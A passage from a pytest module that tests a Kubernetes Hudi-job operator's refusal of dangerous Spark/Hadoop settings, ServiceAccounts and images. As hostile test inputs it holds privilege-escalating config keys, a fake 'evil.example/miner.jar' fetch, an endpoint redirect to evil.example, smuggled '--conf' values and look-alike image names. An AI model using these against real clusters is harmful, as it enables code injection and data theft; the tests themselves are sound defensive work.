"""What a table may ask of its jobs, attacked: the Spark and Hadoop settings, the ServiceAccount and the
image a table author could use to get pods the cluster's RBAC would not let them create.

``KEYS_TRIED`` is the list of settings tried and what becomes of each: refused at admission by the CRD's
CEL rule, refused by the operator before a job is created (naming the key and why), or allowed by a rule
of the allow-list. The end-to-end module tests/e2e/test_tenant_powers.py tries the same on a real
API server.
"""

from __future__ import annotations

import pathlib
import re
import unicodedata
import zipfile
from dataclasses import replace
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from hudi_bucket_operator.errors import (
    ImageNotAllowedError,
    InvalidSpecError,
    ResourcesNotAllowedError,
    ServiceAccountNotAllowedError,
    SettingNotAllowedError,
)
from hudi_bucket_operator.policy.job_defaults import JobDefaults
from hudi_bucket_operator.policy.job_policy import (
    HADOOP_CONF_ALLOWED,
    OWNED_SPARK_CONF,
    PREFIX_ADMITS,
    SPARK_CONF_ALLOWED,
    Policy,
    admit,
    hadoop_conf_refusal,
    image_allowed,
    job_settings,
    spark_conf_refusal,
)
from hudi_bucket_operator.resource import images
from hudi_bucket_operator.resource.api import KIND
from hudi_bucket_operator.resource.spark_conf import Setting, reason_refused
from hudi_bucket_operator.resource.spec import parse_spec
from hudi_bucket_operator.resource.spec.spark import Resources, SparkSection
from hudi_bucket_operator.runtime.settings import OperatorConfig
from lib.hbt_admission import ADMISSION, CRD_PATH, EXAMPLES, SMALL, with_spec
from lib.hbt_resources import ANYWHERE
from lib.paths import s3a_jars

# The admins of these tests let tables be anywhere (ANYWHERE); the operator's own default is nowhere.
DEFAULTS = JobDefaults(
    image="registry.example/hudi-job:1.0", spark_version="3.5.8", allowed_table_uris=ANYWHERE
)


def changed(defaults: JobDefaults, **changes: Any) -> JobDefaults:
    """``defaults`` with these fields changed, checked as the operator checks its settings."""
    return JobDefaults.model_validate(defaults.model_dump() | changes)


# Refused at admission by the CRD's CEL rules (no admin may allow it), and by the operator saying so.
AT_ADMISSION = "admission: is set by the operator"
NOT_A_KEY = "admission: is no setting's name"


def table(spark: dict[str, Any]) -> dict[str, Any]:
    """The manifest of a small table with this spec.spark."""
    return with_spec(SMALL, "spark", spark)


def refusal(spark: dict[str, Any], defaults: JobDefaults = DEFAULTS) -> str:
    """What the operator says when it refuses this spec.spark ("" when it runs the job)."""
    try:
        job_settings(parse_spec(table(spark)["spec"]).spark, defaults)
    except SettingNotAllowedError as err:
        return str(err)
    return ""


# --- the keys tried ---------------------------------------------------------------------------------------

# (where, key, outcome): "admission: <why>" (refused by CEL at admission, and by the operator saying why);
# "refused: <why, as the operator says it>"; "allowed: <the rule>".
KEYS_TRIED = [
    # The node's filesystem, Secrets, code, the JVM, the pods' environment and nodes (issue 27).
    ("sparkConf", "spark.kubernetes.driver.volumes.hostPath.host.mount.path", "refused: mounts volumes"),
    ("sparkConf", "spark.kubernetes.driver.volumes.hostPath.host.options.path", "refused: mounts volumes"),
    ("sparkConf", "spark.kubernetes.executor.volumes.hostPath.host.mount.path", "refused: mounts volumes"),
    ("sparkConf", "spark.kubernetes.driver.volumes.persistentVolumeClaim.data.options.claimName",
     "refused: mounts volumes"),
    ("sparkConf", "spark.kubernetes.driver.secrets.cluster-admin-token", "refused: mounts a Secret"),
    ("sparkConf", "spark.kubernetes.executor.secrets.lake-s3", "refused: mounts a Secret"),
    ("sparkConf", "spark.kubernetes.driver.secretKeyRef.AWS_SECRET_ACCESS_KEY", "refused: mounts a Secret"),
    ("sparkConf", "spark.jars", "refused: loads code into the job"),
    ("sparkConf", "spark.jars.packages", "refused: loads code into the job"),
    ("sparkConf", "spark.jars.repositories", "refused: loads code into the job"),
    ("sparkConf", "spark.files", "refused: loads code into the job"),
    ("sparkConf", "spark.submit.pyFiles", "refused: loads code into the job"),
    ("sparkConf", "spark.executor.extraClassPath", "refused: loads code into the job"),
    ("sparkConf", "spark.plugins", "refused: loads code into the job"),
    ("sparkConf", "spark.sql.extensions", "refused: loads code into the job"),
    ("sparkConf", "spark.driver.extraJavaOptions", "refused: passes options to the job's JVMs"),
    ("sparkConf", "spark.executor.extraJavaOptions", "refused: passes options to the job's JVMs"),
    ("sparkConf", "spark.kubernetes.driverEnv.AWS_ROLE_ARN", "refused: sets environment variables"),
    ("sparkConf", "spark.executorEnv.LD_PRELOAD", "refused: sets environment variables"),
    ("sparkConf", "spark.kubernetes.node.selector.kubernetes.io/hostname", "refused: chooses the nodes"),
    ("sparkConf", "spark.kubernetes.driver.node.selector.pool", "refused: chooses the nodes"),
    ("sparkConf", "spark.kubernetes.driver.label.team", "refused: shapes the job's pods"),
    ("sparkConf", "spark.kubernetes.driver.annotation.iam.amazonaws.com/role", "refused: shapes the job's pods"),
    ("sparkConf", "spark.kubernetes.executor.podNamePrefix", "refused: shapes the job's pods"),
    ("sparkConf", "spark.kubernetes.driver.pod.name", AT_ADMISSION),
    # What the operator owned before (the deny-list), now refused at admission.
    ("sparkConf", "spark.kubernetes.container.image", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.driver.container.image", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.executor.container.image", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.namespace", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.authenticate.driver.serviceAccountName", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.authenticate.executor.serviceAccountName", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.authenticate.submission.oauthToken", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.driver.podTemplateFile", AT_ADMISSION),
    ("sparkConf", "spark.kubernetes.executor.podTemplateFile", AT_ADMISSION),
    ("sparkConf", "spark.master", AT_ADMISSION),
    ("sparkConf", "spark.submit.deployMode", AT_ADMISSION),
    # A key Spark would read another setting in: the Spark Operator passes `--conf key=value`.
    ("sparkConf", "spark.master=k8s://https://evil.example", NOT_A_KEY),
    ("sparkConf", "spark.sql.shuffle.partitions=1 --conf spark.jars", NOT_A_KEY),
    ("sparkConf", "spark.jars ", NOT_A_KEY),
    ("sparkConf", "spark.kubernetes.container.image\t", NOT_A_KEY),
    ("sparkConf", "spark.sql.shuffle.partitions\u200b", NOT_A_KEY),
    ("hadoopConf", "fs.s3a.endpoint=http://evil.example", NOT_A_KEY),
    # Hadoop settings, inline or through sparkConf's spark.hadoop.*.
    ("hadoopConf", "fs.s3a.endpoint", "refused: points S3A at another server"),
    ("hadoopConf", "fs.s3a.connection.ssl.enabled", "refused: points S3A at another server"),
    ("hadoopConf", "fs.s3a.proxy.host", "refused: points S3A at another server"),
    ("hadoopConf", "fs.s3a.bucket.lake.endpoint", "refused: is a per-bucket S3A setting"),
    ("hadoopConf", "fs.s3a.bucket.lake.connection.maximum", "refused: is a per-bucket S3A setting"),
    ("hadoopConf", "fs.s3a.aws.credentials.provider", "refused: chooses whose credentials the job uses"),
    ("hadoopConf", "fs.s3a.assumed.role.arn", "refused: chooses whose credentials the job uses"),
    ("hadoopConf", "fs.s3a.access.key", "refused: holds a credential"),
    ("hadoopConf", "fs.s3a.secret.key", "refused: holds a credential"),
    ("hadoopConf", "fs.s3a.session.token", "refused: holds a credential"),
    ("hadoopConf", "fs.azure.account.key.lake.dfs.core.windows.net", "refused: holds a credential"),
    ("hadoopConf", "fs.s3a.impl", "refused: names a class or a program for the job to load"),
    ("hadoopConf", "fs.s3a.s3.client.factory.impl", "refused: names a class or a program for the job to load"),
    ("hadoopConf", "fs.s3a.custom.signers", "refused: names a class or a program for the job to load"),
    ("hadoopConf", "io.compression.codecs", "refused: loads code into the job"),
    ("hadoopConf", "fs.defaultFS", "refused: chooses the file system"),
    ("hadoopConf", "fs.s3a.signing-algorithm", "refused: chooses how what the job writes is encrypted, signed"),
    ("hadoopConf", "hadoop.security.authentication", "refused: chooses whose credentials the job uses"),
    ("sparkConf", "spark.hadoop.fs.s3a.endpoint", "refused: points S3A at another server"),
    ("sparkConf", "spark.hadoop.fs.s3a.secret.key", "refused: holds a credential"),
    ("sparkConf", "spark.hadoop.fs.s3a.impl", "refused: names a class or a program for the job to load"),
    ("sparkConf", "spark.sql.catalog.spark_catalog", "refused: loads code into the job"),
    ("sparkConf", "spark.sql.sources.commitProtocolClass", "refused: names a class or a program"),
    ("sparkConf", "spark.serializer", "refused: loads code into the job"),
    ("sparkConf", "spark.pyspark.python", "refused: loads code into the job"),
    ("sparkConf", "spark.driver.resource.gpu.discoveryScript", "refused: loads code into the job"),
    ("sparkConf", "spark.extraListeners", "refused: loads code into the job"),
    ("sparkConf", "spark.ssl.keyPassword", "refused: holds a credential"),
    # Spark settings that are no tuning a rescale needs.
    ("sparkConf", "spark.eventLog.dir", "refused: sends the job's events, logs or metrics to a sink"),
    ("sparkConf", "spark.local.dir", "refused: is not a tuning setting"),
    ("sparkConf", "spark.speculation", "refused: races duplicate attempts of a task"),
    ("sparkConf", "spark.dynamicAllocation.maxExecutors", "refused: sizes the job's pods"),
    ("sparkConf", "spark.sql.adaptive.customCostEvaluatorClass", "refused: names a class or a program"),
    ("sparkConf", "spark.sql.files.maxRecordsPerFile", "refused: is not a tuning setting"),
    # The tuning a rescale needs.
    ("sparkConf", "spark.sql.shuffle.partitions", "allowed: how the rewrite's reads and shuffles are split"),
    ("sparkConf", "spark.sql.files.maxPartitionBytes", "allowed: how the rewrite's reads and shuffles"),
    ("sparkConf", "spark.sql.adaptive.enabled", "allowed: adaptive query execution"),
    ("sparkConf", "spark.sql.adaptive.advisoryPartitionSizeInBytes", "allowed: adaptive query execution"),
    ("sparkConf", "spark.sql.parquet.compression.codec", "allowed: Parquet and compression"),
    ("sparkConf", "spark.io.compression.codec", "allowed: Parquet and compression"),
    ("sparkConf", "spark.executor.memoryOverhead", "allowed: memory of the driver and executors"),
    ("sparkConf", "spark.kubernetes.memoryOverheadFactor", "allowed: memory of the driver and executors"),
    ("sparkConf", "spark.network.timeout", "allowed: timeouts and retries of a long rewrite"),
    ("sparkConf", "spark.hudibucket.s3.nativeListing", "allowed: the jobs' own switch"),
    ("sparkConf", "spark.hadoop.fs.s3a.connection.maximum", "allowed: S3A's connection pool"),
    ("hadoopConf", "fs.s3a.connection.maximum", "allowed: S3A's connection pool and threads"),
    ("hadoopConf", "fs.s3a.retry.throttle.limit", "allowed: S3A's timeouts and retries"),
    ("hadoopConf", "fs.s3a.multipart.size", "allowed: S3A's uploads, reads and listings"),
    ("hadoopConf", "fs.s3a.directory.marker.retention", "allowed: S3A's uploads, reads and listings"),
    ("hadoopConf", "fs.s3a.endpoint.region", "allowed: how S3A addresses the store's own endpoint"),
    ("hadoopConf", "fs.s3a.path.style.access", "allowed: how S3A addresses the store's own endpoint"),
    ("hadoopConf", "parquet.block.size", "allowed: Parquet's row groups, pages and dictionaries"),
]  # fmt: skip


def _rule(where: str, key: str) -> Setting | None:
    """The built-in rule that allows ``key`` (a spark.hadoop.* key by the Hadoop list), if any."""
    if where == "sparkConf" and key.startswith("spark.hadoop."):
        where, key = "hadoopConf", key.removeprefix("spark.hadoop.")
    rules = SPARK_CONF_ALLOWED if where == "sparkConf" else HADOOP_CONF_ALLOWED
    return next((rule for rule in rules if rule.covers(key)), None)


def _allowed_by(where: str, key: str) -> str:
    rule = _rule(where, key)
    return rule.why if rule else ""


def _example(where: str, key: str) -> str:
    """A value the key takes."""
    rule = _rule(where, key)
    return rule.value.example if rule and rule.value else "x"


@pytest.mark.parametrize(("where", "key", "outcome"), KEYS_TRIED, ids=[f"{w}:{k}" for w, k, _ in KEYS_TRIED])
def test_each_key_tried_is_refused_where_it_says_or_allowed_by_its_rule(
    where: str, key: str, outcome: str
) -> None:
    verdict, _, why = outcome.partition(": ")
    spark = {where: {key: _example(where, key) if verdict == "allowed" else "v4lue-7f3a"}}
    admission = ADMISSION.errors(table(spark))
    said = refusal(spark)
    if verdict == "admission":
        assert admission != []
        assert f"{where}[{key!r}] {why}" in said  # without CEL too
        return
    assert admission == []  # what admins may allow must pass admission, or they could not allow it
    if verdict == "refused":
        assert f"{where}[{key!r}] {why}" in said
        assert "v4lue-7f3a" not in said  # a value may be a credential: messages name keys only
    else:
        assert said == ""
        assert _allowed_by(where, key).startswith(why)


def test_a_refusal_names_every_key_and_says_how_admins_widen_the_list() -> None:
    conf = {"spark.jars": "https://evil.example/miner.jar", "spark.sql.shuffle.partitions": "8"}
    hadoop = {"fs.s3a.endpoint": "http://evil.example", "fs.s3a.secret.key": "AKIA-not-really"}
    said = refusal({"sparkConf": conf, "hadoopConf": hadoop})
    assert said.startswith("spec.spark sets what a table may not: sparkConf['spark.jars'] loads code")
    assert "hadoopConf['fs.s3a.endpoint'] points S3A" in said
    assert "hadoopConf['fs.s3a.secret.key'] holds a credential" in said
    assert "spark.sql.shuffle.partitions" not in said
    assert "jobs.allowedSparkConf and jobs.allowedHadoopConf (Helm values)" in said
    assert "evil.example" not in said
    assert "AKIA" not in said


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.name)
def test_the_examples_run_on_a_default_install_once_their_secrets_and_locations_are_listed(
    path: pathlib.Path,
) -> None:
    policy = OperatorConfig.from_env({}).policy
    tables = [doc for doc in yaml.safe_load_all(path.read_text()) if doc and doc["kind"] == KIND]
    for doc in tables:
        spec, namespace = parse_spec(doc["spec"]), doc["metadata"]["namespace"]
        secrets = {namespace: spec.spark.secret_names}
        locations = {namespace: (spec.table.uri,)}
        jobs = changed(policy.jobs, allowed_secrets=secrets, allowed_table_uris=locations)
        admit(spec, namespace, replace(policy, jobs=jobs))
        if spec.spark.secret_names:  # the example says the admins must list them
            assert "jobs.allowedSecrets" in path.read_text()


# --- admins widen the lists -------------------------------------------------------------------------------

WIDENED = [
    # (the admins' entries, where, key, allowed?)
    ({"allowed_hadoop_conf": ("fs.s3a.endpoint",)}, "hadoopConf", "fs.s3a.endpoint", True),
    ({"allowed_hadoop_conf": ("fs.s3a.endpoint",)}, "sparkConf", "spark.hadoop.fs.s3a.endpoint", True),
    ({"allowed_hadoop_conf": ("fs.s3a.endpoint",)}, "hadoopConf", "fs.s3a.endpoint.fips", False),
    ({"allowed_hadoop_conf": ("fs.s3a.endpoint",)}, "hadoopConf", "fs.s3a.bucket.lake.endpoint", False),
    # A prefix never admits what the built-in lists refuse for a reason: only the exact key does.
    ({"allowed_hadoop_conf": ("fs.s3a.bucket.lake.",)}, "hadoopConf", "fs.s3a.bucket.lake.endpoint", False),
    ({"allowed_hadoop_conf": ("fs.s3a.bucket.lake.endpoint",)}, "hadoopConf", "fs.s3a.bucket.lake.endpoint",
     True),
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.proxy.host", False),
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.endpoint", False),
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.aws.credentials.provider", False),
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.signing-algorithm", False),
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.multiobjectdelete.enable", True),  # vetted
    ({"allowed_hadoop_conf": ("fs.s3a.proxy.host",)}, "hadoopConf", "fs.s3a.proxy.host", True),
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.secret.key", False),  # a credential
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "sparkConf", "spark.hadoop.fs.s3a.session.token", False),
    ({"allowed_spark_conf": ("spark.hadoop.fs.s3a.endpoint",)}, "sparkConf", "spark.hadoop.fs.s3a.endpoint", True),
    ({"allowed_spark_conf": ("spark.kubernetes.driver.label.",)}, "sparkConf", "spark.kubernetes.driver.label.team",
     False),
    ({"allowed_spark_conf": ("spark.kubernetes.driver.label.team",)}, "sparkConf",
     "spark.kubernetes.driver.label.team", True),
    ({"allowed_spark_conf": ("spark.kubernetes.driver.label.",)}, "sparkConf", "spark.kubernetes.driver.labels",
     False),  # a prefix ends in '.'
    ({"allowed_spark_conf": ("spark.speculation",)}, "sparkConf", "spark.speculation", True),
    ({"allowed_spark_conf": ("spark.speculation",)}, "sparkConf", "spark.speculation.multiplier", False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.jars", False),  # loads code: the exact key only
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.kubernetes.driver.volumes.hostPath.h.mount.path",
     False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.hadoop.fs.s3a.endpoint", False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.eventLog.enabled", True),  # vetted tuning
    ({"allowed_spark_conf": ("spark.jars",)}, "sparkConf", "spark.jars", True),
    # A Hadoop setting in sparkConf is judged by the Hadoop rules: an admin's sparkConf prefix never reaches it.
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.hadoop.fs.s3a.impl", False),
    ({"allowed_spark_conf": ("spark.hadoop.",)}, "sparkConf", "spark.hadoop.fs.defaultFS", False),
    ({"allowed_spark_conf": ("spark.hadoop.fs.defaultFS",)}, "sparkConf", "spark.hadoop.fs.defaultFS", True),
    ({"allowed_hadoop_conf": ("fs.defaultFS",)}, "sparkConf", "spark.hadoop.fs.defaultFS", True),
    # What names a class to load is refused for a reason: a prefix never admits it.
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.impl", False),
    ({"allowed_hadoop_conf": ("fs.s3a.",)}, "hadoopConf", "fs.s3a.s3.client.factory.impl", False),
    ({"allowed_hadoop_conf": ("fs.s3a.impl",)}, "hadoopConf", "fs.s3a.impl", True),
    ({"allowed_spark_conf": ("spark.sql.",)}, "sparkConf", "spark.sql.catalog.spark_catalog", False),
    ({"allowed_spark_conf": ("spark.sql.",)}, "sparkConf", "spark.sql.sources.commitProtocolClass", False),
    ({"allowed_spark_conf": ("spark.sql.",)}, "sparkConf", "spark.sql.cbo.enabled", False),  # not vetted
    ({"allowed_spark_conf": ("spark.sql.cbo.enabled",)}, "sparkConf", "spark.sql.cbo.enabled", True),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.serializer", False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.pyspark.python", False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.driver.resource.gpu.discoveryScript", False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.master", False),  # what the operator sets
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.master=k8s://https://evil.example", False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.kubernetes.authenticate.driver.oauthToken", False),
    ({"allowed_spark_conf": ("spark.",)}, "sparkConf", "spark.ssl.keyPassword", False),  # a credential
]  # fmt: skip


@pytest.mark.parametrize(("entries", "where", "key", "allowed"), WIDENED)
def test_admins_widen_the_lists_by_exact_keys_and_prefixes(
    entries: dict[str, tuple[str, ...]], where: str, key: str, allowed: bool
) -> None:
    defaults = changed(DEFAULTS, **entries)
    vetted = next((rule.value for rule in PREFIX_ADMITS if rule.covers(key) and rule.value), None)
    value = vetted.example if vetted else "x"  # a vetted key takes the values it lists
    assert (refusal({where: {key: value}}, defaults) == "") is allowed
    assert refusal({where: {key: value}}) != ""  # not without them


# Keys that load code, reach an address, or choose credentials, keys, redaction or sinks: refused for a
# reason under the README's own prefixes (spark., fs.s3a.), which admit only vetted tuning.
UNDER_A_PREFIX = [
    ("sparkConf", "spark.repl.class.uri", "loads code into the job"),
    ("sparkConf", "spark.executor.userClassPathFirst", "loads code into the job"),
    ("sparkConf", "spark.plugins.defaultList", "loads code into the job"),
    ("sparkConf", "spark.sql.cache.serializer", "loads code into the job"),
    ("sparkConf", "spark.python.daemon.module", "loads code into the job"),
    ("sparkConf", "spark.python.worker.module", "loads code into the job"),
    ("sparkConf", "spark.redaction.regex", "chooses what is redacted"),
    ("sparkConf", "spark.sql.redaction.string.regex", "chooses what is redacted"),
    ("sparkConf", "spark.eventLog.dir", "sends the job's events, logs or metrics to a sink"),
    ("sparkConf", "spark.metrics.conf", "sends the job's events, logs or metrics to a sink"),
    ("sparkConf", "spark.executor.memory", "sizes the job's pods"),
    ("sparkConf", "spark.executor.instances", "sizes the job's pods"),
    ("sparkConf", "spark.dynamicAllocation.enabled", "sizes the job's pods"),
    ("sparkConf", "spark.ui.reverseProxyUrl", "names an address the job would reach"),
    ("sparkConf", "spark.sql.files.ignoreCorruptFiles", "is not vetted tuning"),
    ("hadoopConf", "fs.s3a.audit.service.classname", "loads code into the job"),
    ("hadoopConf", "fs.s3a.audit.request.handlers", "loads code into the job"),
    ("hadoopConf", "fs.s3a.delegation.token.binding", "chooses whose credentials the job uses"),
    ("hadoopConf", "fs.s3a.security.credential.provider.path", "chooses whose credentials the job uses"),
    ("hadoopConf", "fs.s3a.encryption.key", "holds a credential"),
    ("hadoopConf", "fs.s3a.encryption.algorithm", "chooses how what the job writes is encrypted"),
    ("hadoopConf", "fs.s3a.acl.default", "chooses how what the job writes is encrypted, signed or shared"),
    ("hadoopConf", "fs.s3a.user.agent.prefix", "is not vetted tuning"),
]


@pytest.mark.parametrize(("where", "key", "why"), UNDER_A_PREFIX, ids=[k for _, k, _ in UNDER_A_PREFIX])
def test_a_prefix_admits_only_vetted_tuning_whatever_spark_or_hadoop_read_under_it(
    where: str, key: str, why: str
) -> None:
    prefixes = changed(DEFAULTS, allowed_spark_conf=("spark.",), allowed_hadoop_conf=("fs.s3a.",))
    said = refusal({where: {key: "v4lue"}}, prefixes)
    assert f"{where}[{key!r}] {why}" in said, said
    assert "v4lue" not in said
    exact = changed(DEFAULTS, allowed_spark_conf=(key,), allowed_hadoop_conf=(key,))
    if "credential" not in why:  # the admins may still name one exactly, but never an inline credential
        assert refusal({where: {key: "v4lue"}}, exact) == ""


def test_every_key_a_prefix_admits_is_vetted_typed_and_none_refused_for_a_reason() -> None:
    for rule in PREFIX_ADMITS:
        assert not rule.key.endswith("."), rule
        assert rule.value is not None, rule.key  # typed: a prefix's key takes the values it lists
        assert reason_refused(rule.key) == "", rule.key
        assert not any(s.covers(rule.key) for s in OWNED_SPARK_CONF), rule.key


def test_the_admins_own_settings_are_not_checked() -> None:
    defaults = changed(
        DEFAULTS, spark_conf={"spark.eventLog.enabled": "true", "spark.jars": "local:///x.jar"}
    )
    assert refusal({}, defaults) == ""


@pytest.mark.parametrize("entry", ["", "fs.s3a. endpoint", "fs.s3a.endpoint,fs.s3a.proxy.host", "\tspark."])
def test_an_allow_list_entry_is_a_key_or_a_prefix(entry: str) -> None:
    for field in ("allowed_spark_conf", "allowed_hadoop_conf"):
        with pytest.raises(ValueError, match=r"jobs\.allowed"):
            changed(DEFAULTS, **{field: (entry,)})


# --- the lists themselves ---------------------------------------------------------------------------------


def test_the_built_in_lists_name_exact_keys_none_owned_nor_a_credential() -> None:
    # A prefix would admit whatever Spark or Hadoop add under it later (a class name, a path).
    for rule in (*SPARK_CONF_ALLOWED, *HADOOP_CONF_ALLOWED):
        assert not rule.key.endswith("."), rule
        assert rule.why
    for rule in SPARK_CONF_ALLOWED:
        assert spark_conf_refusal(rule.key, DEFAULTS) == ""
    for rule in HADOOP_CONF_ALLOWED:
        assert hadoop_conf_refusal(rule.key, DEFAULTS) == ""
        assert spark_conf_refusal(f"spark.hadoop.{rule.key}", DEFAULTS) == ""


def _class_files_text() -> bytes:
    """The class files of the Spark, Parquet and S3A of the job image, where each key they read is a
    string constant."""
    import pyspark

    prefixes = ("spark-core_", "spark-catalyst_", "spark-sql_", "spark-kubernetes_", "parquet-hadoop-")
    jars = [
        j
        for j in (pathlib.Path(pyspark.__file__).parent / "jars").glob("*.jar")
        if j.name.startswith(prefixes)
    ]
    jars += [j for j in s3a_jars() if j.name.startswith("hadoop-aws-")]
    assert len(jars) == len(prefixes) + 1, jars
    text = bytearray()
    for jar in jars:
        with zipfile.ZipFile(jar) as archive:
            for name in archive.namelist():
                if name.endswith(".class"):
                    text += archive.read(name)
    return bytes(text)


def test_every_allowed_vetted_and_owned_key_is_one_spark_hadoop_or_parquet_reads() -> None:
    """A misspelt key on the list would allow nothing, and refuse what the author meant."""
    from hudi_bucket.storage.native_s3 import SWITCH

    text = _class_files_text()
    ours = {SWITCH}
    unknown = [
        rule.key
        for rule in (*SPARK_CONF_ALLOWED, *HADOOP_CONF_ALLOWED, *PREFIX_ADMITS, *OWNED_SPARK_CONF)
        if rule.key not in ours and rule.key.encode() not in text
    ]
    assert unknown == []
    assert any(rule.key == SWITCH for rule in SPARK_CONF_ALLOWED)


def _crd_rule(field: str, holding: str = "") -> str:
    """The CEL rule of spec.spark's ``field`` (the one ``holding`` that text)."""
    crd = yaml.safe_load(CRD_PATH.read_text())
    spark = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"][
        "spark"
    ]
    (rule,) = [
        v["rule"] for v in spark["properties"][field]["x-kubernetes-validations"] if holding in v["rule"]
    ]
    return str(rule)


def test_the_crds_rule_refuses_exactly_the_owned_settings() -> None:
    rule = _crd_rule("sparkConf", "exists")
    listed = set(re.findall(r"'([^']+)'", rule.split("||")[0]))
    prefixes = set(re.findall(r"startsWith\('([^']+)'\)", rule))
    assert listed == {s.key for s in OWNED_SPARK_CONF if not s.key.endswith(".")}
    assert prefixes == {s.key for s in OWNED_SPARK_CONF if s.key.endswith(".")}


# --- ServiceAccounts --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("account", "allowed_accounts", "runs_as"),
    [
        ("", (), "hudi-bucket-jobs"),
        ("hudi-bucket-jobs", (), "hudi-bucket-jobs"),
        ("lake-spark", ("lake-spark",), "lake-spark"),
        ("hudi-bucket-jobs", ("lake-spark",), "hudi-bucket-jobs"),
    ],
)
def test_jobs_run_as_the_job_account_or_one_the_admins_list(
    account: str, allowed_accounts: tuple[str, ...], runs_as: str
) -> None:
    defaults = changed(DEFAULTS, allowed_service_accounts=allowed_accounts)
    assert (
        job_settings(SparkSection.model_validate({"serviceAccount": account}), defaults).service_account
        == runs_as
    )


@pytest.mark.parametrize("account", ["default", "cluster-admin", "spark-operator-spark", "lake-spark2"])
def test_any_other_service_account_is_refused_saying_how_admins_allow_it(account: str) -> None:
    defaults = changed(DEFAULTS, allowed_service_accounts=("lake-spark",))
    with pytest.raises(ServiceAccountNotAllowedError) as caught:
        job_settings(SparkSection.model_validate({"serviceAccount": account}), defaults)
    said = str(caught.value)
    assert f"spec.spark.serviceAccount {account!r} is not allowed" in said
    assert "'hudi-bucket-jobs' and ['lake-spark']" in said
    assert "jobs.allowedServiceAccounts (Helm values)" in said


def test_an_allowed_service_account_is_a_service_account_name() -> None:
    with pytest.raises(ValueError, match="allowedServiceAccounts"):
        changed(DEFAULTS, allowed_service_accounts=("Lake_Spark",))


# --- the image allowlist ----------------------------------------------------------------------------------

IMAGE_POLICY = changed(
    DEFAULTS,
    allowed_images=("registry.example/hudi-job", "mirror.example/lake/", "pinned.example/job:1.0"),
)
DIGEST = "sha256:" + "0123456789abcdef" * 4
# (image, allowed?, why): each attack on the rule, and what the rule says of it (images.py's docstring).
IMAGES_TRIED = [
    ("registry.example/hudi-job:1.0", True, "the default image"),
    ("registry.example/hudi-job:2.0", True, "a repository entry admits any tag"),
    (f"registry.example/hudi-job@{DIGEST}", True, "and any digest"),
    (f"registry.example/hudi-job:2.0@{DIGEST}", True, "and a tag pinned by a digest"),
    ("registry.example/hudi-job", True, "and no tag"),
    ("registry.example/hudi-job/spark:1", True, "and the repositories under it"),
    ("mirror.example/lake/anything:1", True, "an entry ending in '/' admits what is under it"),
    (f"mirror.example/lake/a/b@{DIGEST}", True, "however deep"),
    ("pinned.example/job:1.0", True, "an entry with a tag admits exactly it"),
    ("pinned.example/job:1.1", False, "another tag"),
    ("pinned.example/job", False, "no tag"),
    (f"pinned.example/job:1.0@{DIGEST}", False, "a digest could name any image of the repository"),
    ("registry.example/hudi-job-evil:1", False, "a name the entry is a prefix of"),
    ("registry.example/hudi-jobs:1", False, "a name the entry is a prefix of"),
    ("registry.example/hudi-job.evil:1", False, "a name the entry is a prefix of"),
    ("registry.example/hudi-job__x:1", False, "a name the entry is a prefix of"),
    ("registry.example.evil.com/hudi-job:1", False, "a registry the entry's registry is a prefix of"),
    ("registry.example:5000/hudi-job:1", False, "another port of the entry's registry"),
    ("mirror.example/lakehouse/x:1", False, "a path the entry is a prefix of"),
    ("mirror.example/lake", False, "the prefix itself is no image under it"),
    ("registry.example/hudi-job/../evil:1", False, "'..' in a name"),
    ("registry.example/hudi-job/..:1", False, "'..' as a name"),
    ("mirror.example/lake/../../evil/x:1", False, "'..' climbing out of the prefix"),
    ("mirror.example/lake//x:1", False, "an empty path component"),
    ("registry.example/hudi-job/./x:1", False, "'.' as a name"),
    ("REGISTRY.EXAMPLE/hudi-job:1", False, "upper case in the registry"),
    ("Registry.example/hudi-job:1", False, "upper case in the registry"),
    ("registry.example/Hudi-Job:1", False, "upper case in the path"),
    (" registry.example/hudi-job:1", False, "whitespace"),
    ("registry.example/hudi-job:1 ", False, "whitespace"),
    ("registry.example/hudi-job:1\n", False, "whitespace"),
    ("registry.example/hudi-job :1", False, "whitespace"),
    ("registry.example/hudi-job:1\u00a0", False, "a no-break space"),
    ("registry.example/hudi-job:1\u200b", False, "a zero-width space"),
    ("registr\u0443.example/hudi-job:1", False, "a Cyrillic look-alike in the registry"),
    ("registry.example/hudi-j\u043eb:1", False, "a Cyrillic look-alike in the path"),
    ("registry.example/hudi\u2010job:1", False, "a Unicode hyphen"),
    ("registry.example/hudi-job:\uff11", False, "a full-width digit in the tag"),
    ("registry.example/hudi-job:1\u0301", False, "a combining accent"),
    ("registry.example/hudi-job:-1", False, "a tag must start with a letter, digit or '_'"),
